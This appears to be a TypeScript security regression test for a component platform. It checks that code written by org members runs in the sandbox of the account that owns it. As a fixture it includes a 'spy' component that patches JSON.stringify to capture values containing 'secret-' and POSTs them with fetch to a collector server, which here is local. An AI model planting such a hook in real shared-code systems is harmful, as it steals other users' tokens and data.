import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { admin, client, createUser, TestUser } from './support/accounts';
import { startSystem, System } from './support/system';

/**
 * An org component's `options()` and `additionalProps()` are code another member wrote. Called by a member without
 * `org_id`, they ran in the caller's own sandbox process, where code can leave a global behind (here a patched
 * `JSON.stringify`, through which every later answer of that process passes) that sees the member's later calls
 * of their own components (their props' values) and sends them out; removing the writer from the org restarts only
 * the org's processes. Code runs in the sandbox of the account that owns it: an org component's in the org's,
 * whoever calls it, and a member's own component's in the member's, with `org_id` too.
 */

/** Plants the hook once per sandbox process: every JSON string with "secret-" in it is kept in globalThis.__seen. */
const PLANT = `
  const g = globalThis;
  if (!g.__seen) {
    g.__seen = [];
    const stringify = JSON.stringify;
    JSON.stringify = function (...args) {
      const out = stringify.apply(this, args);
      if (typeof out === "string" && out.length < 2000 && out.includes("secret-") && !out.includes("__spy") && !g.__seen.includes(out)) g.__seen.push(out);
      return out;
    };
  }`;

/** The writer's component: plants the hook, sends what it has seen to `collector` (the writer's server) and answers it. */
const spy = (collector: string): string => `module.exports = {
  name: "Spy", version: "0.0.1",
  props: {
    mode: { type: "string", optional: true, reloadProps: true },
    pick: { type: "string", optional: true, async options() {
      ${PLANT}
      await fetch(${JSON.stringify(collector)}, { method: "POST", body: g.__seen.join("\\n") || "nothing" });
      return g.__seen.map((s) => ({ label: "__spy " + s, value: "__spy" }));
    } },
  },
  async additionalProps() {
    ${PLANT}
    await fetch(${JSON.stringify(collector)}, { method: "POST", body: g.__seen.join("\\n") || "nothing" });
    return { seen: { type: "string", optional: true, label: "__spy " + g.__seen.join("\\n") } };
  },
  async run() {},
};`;

/** A form whose options and added props are made from a prop's value (a token, an app's key…). */
const FORM = `module.exports = {
  name: "Form", version: "0.0.1",
  props: {
    token: { type: "string", reloadProps: true },
    pick: { type: "string", async options() { return [{ label: "mine", value: this.token }]; } },
  },
  async additionalProps() { return { extra: { type: "string", optional: true, label: "for " + this.token } }; },
  async run() {},
};`;

describe('component code runs in the sandbox of the account that owns it', () => {
  let system: System;
  let collector: Server;
  let collected: string[];
  let collectorUrl: string;
  let a: TestUser;
  let b: TestUser;
  let org: Record<string, string>;
  const as = (u: TestUser) => client(system, u.apiKey);

  const save = async (u: TestUser, code: string, orgId?: string): Promise<string> => {
    const res = await as(u).post(`/components${orgId ? `?org_id=${orgId}` : ''}`, { component_code: code });
    expect([res.status, res.text.slice(0, 300)]).toEqual([200, expect.any(String)]);
    return res.body.data.id as string;
  };
  /** One call of the component's code, by the route under test; answers the text of what it returned. */
  const routes: Record<string, (u: TestUser, id: string, props: Record<string, unknown>, orgId?: string) => Promise<string>> = {
    options: async (u, id, props, orgId) => {
      const res = await as(u).post(`/components/${id}/props/pick/options`, { configured_props: props, ...(orgId ? { org_id: orgId } : {}) });
      expect([res.status, res.text.slice(0, 300)]).toEqual([200, expect.any(String)]);
      return JSON.stringify(res.body.data.options);
    },
    reload: async (u, id, props, orgId) => {
      const res = await as(u).post(`/components/${id}/props/reload`, { configured_props: props, ...(orgId ? { org_id: orgId } : {}) });
      expect([res.status, res.text.slice(0, 300)]).toEqual([200, expect.any(String)]);
      return JSON.stringify(res.body.data.configurable_props);
    },
  };

  beforeAll(async () => {
    collector = createServer((req, res) => {
      let body = '';
      req.on('data', (d: Buffer) => (body += d.toString()));
      req.on('end', () => {
        collected.push(body);
        res.end('ok');
      });
    });
    await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
    collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}/`;
    system = await startSystem({ REGISTRY_DIR: 'off' });
  });
  beforeEach(async () => {
    collected = [];
    // New accounts each time: new sandbox processes, no hook from an earlier case.
    a = createUser(system);
    b = createUser(system);
    org = admin(system, ['orgs', 'create', '--name', 'Shared', '--orgname', `shared-${b.id.slice(2, 14).toLowerCase()}`]);
    for (const u of [a, b]) admin(system, ['orgs', 'add-member', '--org', org.id, '--user', u.id]);
  });
  afterAll(async () => {
    await system?.stop();
    collector?.close();
  });

  for (const route of Object.keys(routes)) {
    it(`${route}: an org component called without org_id runs in the org's sandbox, not the caller's own`, async () => {
      const call = routes[route];
      const spyId = await save(b, spy(collectorUrl), org.id);
      const orgForm = await save(b, FORM, org.id);
      const mine = await save(a, FORM);
      // A opens the org's forms without org_id: the spy plants its hook, then the org's other form is filled in.
      await call(a, spyId, {});
      expect(await call(a, orgForm, { token: 'secret-org-1' })).toContain('secret-org-1');
      // A's own component, with A's own token.
      expect(await call(a, mine, { token: 'secret-a-personal' })).toContain('secret-a-personal');
      // The spy runs again (A opens the form again; B calls it in the org): what it saw goes to B's server and to B.
      await call(a, spyId, {});
      const seenByB = await call(b, spyId, {}, org.id);
      // The hook never saw A's own calls...
      expect(collected.join('\n')).not.toContain('secret-a-personal');
      expect(seenByB).not.toContain('secret-a-personal');
      // ...though it is alive where the org's code runs: it saw the org's form.
      expect(collected.join('\n')).toContain('secret-org-1');
      expect(seenByB).toContain('secret-org-1');
    });
  }

  it("a member's own component called with org_id runs in the member's sandbox, not the org's", async () => {
    const call = routes.options;
    const personalSpy = await save(b, spy(collectorUrl));
    const orgForm = await save(a, FORM, org.id);
    const ownForm = await save(b, FORM);
    await call(b, personalSpy, {}, org.id);
    // A fills in the org's form (in the org) and B its own.
    expect(await call(a, orgForm, { token: 'secret-org-2' }, org.id)).toContain('secret-org-2');
    expect(await call(b, ownForm, { token: 'secret-b-own' })).toContain('secret-b-own');
    const seen = await call(b, personalSpy, {}, org.id);
    // B's code never saw the org's calls; it saw B's own (it runs in B's sandbox).
    expect(seen).not.toContain('secret-org-2');
    expect(collected.join('\n')).not.toContain('secret-org-2');
    expect(seen).toContain('secret-b-own');
  });
});
